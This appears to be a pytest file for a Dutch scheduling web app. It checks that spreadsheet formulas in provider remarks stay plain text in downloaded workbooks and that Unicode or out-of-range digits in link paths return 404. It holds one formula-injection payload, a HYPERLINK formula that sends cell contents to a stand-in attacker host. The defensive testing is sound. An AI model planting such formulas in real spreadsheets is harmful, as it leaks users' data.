"""What a provider's link could try, repeated: a remark
that is a formula stays text in the workbook the planner downloads; ``n=²`` is
simply not an appointment, never a 500."""

from __future__ import annotations

import io
import re
import zipfile

from tests.web.test_answers import answer, links_on_page, mine, region  # noqa: F401

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2&B2&C2,"Bevestig hier")'


def test_a_remark_with_a_formula_stays_text_in_the_downloaded_workbook(region):  # noqa: F811
    client, name, folder = region
    links = links_on_page(client, name)
    dossier = mine(folder, "Yulius")[0]
    assert answer(client, links["Yulius"], dossier, "ja", HYPERLINK).status_code == 303
    href = f"/p/{name}/antwoorden/yulius.xlsx"
    assert href in client.get(f"/p/{name}").text
    workbook = client.get(href)
    assert workbook.status_code == 200
    with zipfile.ZipFile(io.BytesIO(workbook.content)) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
        shared = z.read("xl/sharedStrings.xml") if "xl/sharedStrings.xml" in z.namelist() else b""
    assert not any(b"<f>" in s for s in sheets)
    assert b"HYPERLINK" in b"".join(sheets) + shared  # kept, as text


def test_odd_digits_on_a_providers_link_are_not_found(region):  # noqa: F811
    client, name, _folder = region
    token = links_on_page(client, name)["Yulius"]
    for n in ("²", "٣", "0", "99999"):
        assert client.get(f"/a/{token}/opties/{n}").status_code == 404, n
    page = client.get(f"/a/{token}").text
    csrf = re.search(r'name="csrf" value="([^"]+)"', page)
    assert csrf is not None
    for n in ("²", "٣", "-1"):
        picked = client.post(
            f"/a/{token}/kies",
            data={"csrf": csrf.group(1), "n": n, "plaats": "geen"},
            follow_redirects=False,
        )
        assert picked.status_code == 404, n
